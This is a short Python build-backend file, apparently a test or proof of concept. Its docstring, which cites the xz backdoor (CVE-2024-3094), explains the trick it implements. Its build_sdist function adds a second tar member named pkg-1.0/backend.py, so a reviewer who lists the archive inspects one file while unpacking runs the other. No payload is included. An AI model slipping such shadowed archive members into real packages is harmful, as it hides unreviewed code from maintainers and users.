"""Adds a second back end under the name of the first.

Who lists the archive and reviews the first finds nothing, and who unpacks it runs the
last. In xz (CVE-2024-3094) the tarball and what people reviewed were not the same either.
"""

import tarfile

import kit


def build_sdist(sdist_directory, config_settings=None):
    name = kit.sdist(sdist_directory)
    with kit.attempt("write-member"):
        second = tarfile.TarInfo("pkg-1.0/backend.py")
        kit.add_member(sdist_directory, name, second)
    return name
